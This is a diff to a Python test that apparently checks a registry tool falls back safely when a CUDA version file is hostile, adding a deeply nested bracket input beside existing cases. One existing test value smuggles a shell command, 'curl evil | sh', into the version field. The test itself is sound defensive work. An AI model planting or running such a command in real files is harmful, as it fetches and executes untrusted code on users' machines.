@@ -95,6 +95,7 @@ def test_rocm_and_gaudi(registry: RegistryServer, repo_name: str, isolated_home:
         json.dumps({"cuda": {"version": "12.4; curl evil | sh"}}),
         json.dumps({"cuda": "12.4"}),
         json.dumps({"cuda": {"version": "1" * 70_000}}),  # cut at 64 KiB: not JSON
+        "[" * 60_000 + "]" * 60_000,  # nested past json's recursion limit (in the 64 KiB read)
     ],
 )
 def test_a_hostile_version_file_falls_back_to_the_soname(
